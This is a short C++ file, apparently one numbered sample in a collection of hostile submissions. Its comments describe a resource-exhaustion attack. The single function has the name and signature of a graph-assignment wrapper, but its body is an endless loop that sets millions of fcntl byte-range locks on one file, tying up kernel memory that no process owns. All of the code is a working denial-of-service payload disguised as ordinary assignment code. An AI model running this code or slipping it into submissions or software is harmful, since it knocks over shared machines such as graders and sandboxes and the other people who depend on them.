// attack: exhaust
// root: resources
// what: makes millions of locks on single bytes of one file: the system keeps them, and no process
//   owns this memory
// list: 9
#include <fcntl.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  const int file = open("x", O_RDWR | O_CREAT, 0600);
  for (long n = 0;; n++) {
    struct flock lock = {};
    lock.l_type = n % 2 == 0 ? F_WRLCK : F_RDLCK;
    lock.l_start = n;
    lock.l_len = 1;
    fcntl(file, F_SETLK, &lock);
  }
}
